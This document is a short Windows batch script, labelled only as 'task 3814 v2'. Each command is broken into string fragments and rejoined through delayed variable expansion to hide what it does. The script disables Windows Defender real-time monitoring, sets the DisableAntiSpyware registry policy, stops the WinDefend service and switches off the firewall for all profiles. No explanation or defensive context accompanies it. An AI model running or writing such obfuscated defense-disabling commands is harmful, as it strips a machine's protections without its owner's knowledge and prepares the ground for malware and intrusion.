REM task 3814 v2
@echo off
setlocal EnableDelayedExpansion
set "gdr0=po"
set "tgg1=wershell -c "Set-MpPreference "
set "sga2=-DisableRealtimeMonitorin"
set "lgs3=g $true""
!gdr0!!tgg1!!sga2!!lgs3!
@echo off
setlocal EnableDelayedExpansion
set "hgj0=reg add "H"
set "plq1=KLM\SOFTWARE\Polici"
set "iho2=es\Microsoft\Windows D"
set "zes3=efender" /v DisableAntiSpyware "
set "xtw4=/t REG_DWORD /d 1 /f"
!hgj0!!plq1!!iho2!!zes3!!xtw4!
cmd /v:on /c "set gak0=sc stop &&set qjl1=WinDe&&set eni2=fend&&!gak0!!qjl1!!eni2!"
cmd /v:on /c "set ffp0=netsh advfirewall set allprofiles stat&&set yus1=e off&&!ffp0!!yus1!"
